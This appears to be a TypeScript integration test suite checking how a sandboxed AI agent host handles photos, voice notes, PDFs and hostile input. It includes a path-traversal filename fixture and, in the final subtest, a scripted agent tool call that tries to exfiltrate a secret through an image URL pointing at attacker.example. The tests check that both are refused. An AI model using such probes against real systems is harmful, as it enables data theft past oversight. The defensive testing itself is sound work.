import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import sharp from 'sharp';
import type { LocalFile } from '../../channels/local/local-channel.js';
import { dockerSkipReason } from '../helpers/docker.js';
import { startHarness, type Harness } from '../helpers/harness.js';
import { elfExecutable, pdfWithText, photoWithGps, voiceNote } from '../helpers/media-fixtures.js';

const skip = await dockerSkipReason();

const ENCLAVE_YAML = `prices:
  fake-model: { input: 1, cachedInput: 0.5, output: 2, vision: true }
  plain-model: { input: 1, output: 2 }
  whisper-1: { input: 0, output: 0, perMinute: 0.006 }
transcription: { provider: env, model: whisper-1 }
media: { maxEdgePx: 1024, imageMaxMb: 20 }
`;

type Part = { type: string; text?: string; image_url?: { url: string } };
type Message = { role: string; content: string | Part[] };

function lastUser(h: Harness): Message {
  const messages = h.model.requests.at(-1)!.body.messages as Message[];
  return messages.filter((m) => m.role === 'user').at(-1)!;
}

function textOf(message: Message): string {
  return typeof message.content === 'string' ? message.content : message.content.filter((p) => p.type === 'text').map((p) => p.text).join('\n');
}

async function send(h: Harness, chat: string, text: string, files: LocalFile[]) {
  return h.app.local.ask(chat, text, files);
}

test('photos, voice notes and documents reach a real container agent the Enclave way', { skip }, async (t) => {
  const h = await startHarness({
    enclaveYaml: ENCLAVE_YAML,
    groups: {
      main: 'chats: [local:main]\nrequireTrigger: false\nmodel: fake-model\n',
      blind: 'chats: [local:blind]\nrequireTrigger: false\nmodel: plain-model\n',
    },
  });
  t.after(() => h.stop());

  await t.test('a photo with a caption reaches a vision model as a host-built image, resized, without EXIF or GPS', async () => {
    h.model.push({ content: 'A green square.' });
    const r = await send(h, 'main', 'what is in this picture?', [{ name: 'IMG_0001.JPG', data: await photoWithGps(3000, 2000) }]);
    assert.equal(r.outcome, 'answered');
    assert.deepEqual(r.replies, ['A green square.']);
    const user = lastUser(h);
    assert.ok(Array.isArray(user.content));
    assert.match(textOf(user), /what is in this picture\?/);
    assert.match(textOf(user), /\[Photo from you, shown below; the file is at \/workspace\/inbox\/\d+\/IMG_0001\.jpg\]/);
    const image = user.content.find((p) => p.type === 'image_url')!;
    const match = /^data:image\/jpeg;base64,(.+)$/.exec(image.image_url!.url);
    assert.ok(match, 'a data: URL the host built');
    const meta = await sharp(Buffer.from(match[1]!, 'base64')).metadata();
    assert.deepEqual([meta.width, meta.height], [1024, 683]);
    assert.equal(meta.exif, undefined, 'EXIF (and the GPS in it) is gone');
  });

  await t.test('a photo without a caption is answered too, and the staged copy is read-only in the container', async () => {
    h.model.push(
      { toolCalls: [{ name: 'shell', arguments: JSON.stringify({ command: 'ls /workspace/inbox/*/; echo x > /workspace/inbox/new.txt || echo WRITE-REFUSED' }) }] },
      { content: 'Nice photo.' },
    );
    const r = await send(h, 'main', '', [{ name: 'beach.png', data: await photoWithGps(800, 600) }]);
    assert.deepEqual(r.replies, ['Nice photo.']);
    const first = h.model.requests.at(-2)!.body.messages as Message[];
    const user = first.filter((m) => m.role === 'user').at(-1)!;
    assert.ok(Array.isArray(user.content) && user.content.some((p) => p.type === 'image_url'));
    const toolResult = (h.model.requests.at(-1)!.body.messages as Message[]).find((m) => m.role === 'tool')!;
    assert.match(String(toolResult.content), /beach\.png\.jpg/);
    assert.match(String(toolResult.content), /WRITE-REFUSED/);
  });

  await t.test('a model that cannot see images gets a placeholder naming the staged file', async () => {
    h.model.push({ content: 'I cannot see it.' });
    await send(h, 'blind', 'look', [{ name: 'cat.jpg', data: await photoWithGps(400, 300) }]);
    const user = lastUser(h);
    assert.equal(typeof user.content, 'string', 'no image part');
    assert.match(textOf(user), /Photo from you at \/workspace\/inbox\/\d+\/cat\.jpg\. The current model cannot see images/);
  });

  await t.test('a voice note is transcribed, labelled with sender and duration, and its cost settled in the ledger', async () => {
    h.model.transcriptionScript.push({ text: 'Please remind me to buy milk tomorrow.', duration: 42 });
    h.model.push({ content: 'Reminder noted.' });
    const r = await send(h, 'main', '', [{ name: 'voice.ogg', data: voiceNote() }]);
    assert.deepEqual(r.replies, ['Reminder noted.']);
    assert.equal(h.model.transcriptions.length, 1);
    assert.equal(h.model.transcriptions[0]!.headers.authorization, `Bearer ${h.canary}`, 'the host added the key');
    assert.match(textOf(lastUser(h)), /\[Transcript of a voice note from you \(0:42\), made by speech-to-text; the audio is at \/workspace\/inbox\/\d+\/voice\.ogg\]\n"""\nPlease remind me to buy milk tomorrow\.\n"""/);
    const rows = h.app.db.prepare("SELECT kind, micros FROM ledger WHERE model = 'whisper-1' ORDER BY id").all() as { kind: string; micros: number }[];
    // Reserved on the note's own length (its Ogg pages: 3 s); the fake provider claims 42 s, which is
    // clamped to the reservation (and audited as an overrun), so the ledger never settles above it.
    assert.deepEqual(rows, [{ kind: 'reserve', micros: 300 }, { kind: 'settle', micros: 300 }], 'reserved on the real length; a longer claim is clamped');
  });

  await t.test('a PDF\'s text is extracted and the original path given', async () => {
    h.model.push({ content: '42 EUR.' });
    await send(h, 'main', 'how much is the invoice?', [{ name: 'invoice.pdf', data: pdfWithText('Invoice total: 42 EUR') }]);
    const text = textOf(lastUser(h));
    assert.match(text, /\[Document "invoice\.pdf" from you; the original is at \/workspace\/inbox\/\d+\/invoice\.pdf\. Its text:\]/);
    assert.match(text, /Invoice total: 42 EUR/);
  });

  await t.test('bad input: an executable named like a photo, an oversized photo, an empty voice note, a hostile name', async () => {
    h.model.push({ content: 'ok' });
    const big = Buffer.concat([await photoWithGps(100, 100), Buffer.alloc(21 * 1024 * 1024)]);
    const r = await send(h, 'main', 'files attached', [
      { name: 'cute.png', data: elfExecutable() },
      { name: 'huge.jpg', data: big },
      { name: 'silence.ogg', data: Buffer.alloc(0) },
      { name: '../../memory/MEMORY.md\n.txt', data: Buffer.from('notes') },
    ]);
    assert.equal(r.outcome, 'answered');
    assert.ok(r.replies.includes('The photo you sent is larger than 20 MB, so I could not take it in; the rest of your message went through.'), r.replies.join(' | '));
    assert.ok(r.replies.some((line) => /The document you sent was empty\./.test(line)), r.replies.join(' | '));
    const text = textOf(lastUser(h));
    assert.match(text, /files attached/, 'the text still went through');
    assert.match(text, /cute\.png\.bin \(application\/octet-stream\); not read by the host/);
    assert.match(text, /Document "MEMORY\.md_\.txt" from you; the original is at \/workspace\/inbox\/\d+\/MEMORY\.md_\.txt/);
    const inbox = join(h.home, 'groups', 'main', 'inbox');
    const staged = readdirSync(inbox, { recursive: true }).map(String);
    assert.ok(staged.some((p) => p.endsWith('MEMORY.md_.txt')));
    assert.ok(!staged.some((p) => p.includes('..')));
    assert.ok(!readdirSync(join(h.home, 'groups', 'main', 'memory')).some((n) => n.includes('_.txt')), 'nothing left the inbox');
  });

  await t.test('an agent that puts its own image (remote or data:) into a model call is refused', async () => {
    const probe = `
const http = require("http");
const ask = (url) => new Promise((done) => {
  const data = JSON.stringify({ model: "fake-model", messages: [{ role: "user", content: [{ type: "text", text: "see" }, { type: "image_url", image_url: { url } }] }] });
  const req = http.request({ socketPath: "/run/enclave/api.sock", method: "POST", path: "/v1/chat/completions", headers: { "content-type": "application/json", "content-length": Buffer.byteLength(data) } }, (res) => {
    let t = ""; res.on("data", (c) => (t += c)); res.on("end", () => { console.log("PROBE " + res.statusCode + " " + (JSON.parse(t).error || {}).code); done(); });
  });
  req.end(data);
});
ask("https://attacker.example/x.png?d=secret").then(() => ask("data:image/png;base64," + Buffer.from("memory").toString("base64")));`;
    h.model.push({ toolCalls: [{ name: 'shell', arguments: JSON.stringify({ command: `node -e '${probe}'` }) }] }, { content: 'tried' });
    const calls = h.model.requests.length;
    await send(h, 'main', 'try it', []);
    const toolResult = (h.model.requests.at(-1)!.body.messages as Message[]).find((m) => m.role === 'tool')!;
    assert.equal(String(toolResult.content).match(/PROBE 400 content_not_allowed/g)?.length, 2, String(toolResult.content));
    assert.equal(h.model.requests.length, calls + 2, 'only the agent runner\'s own two calls reached the model');
  });
});
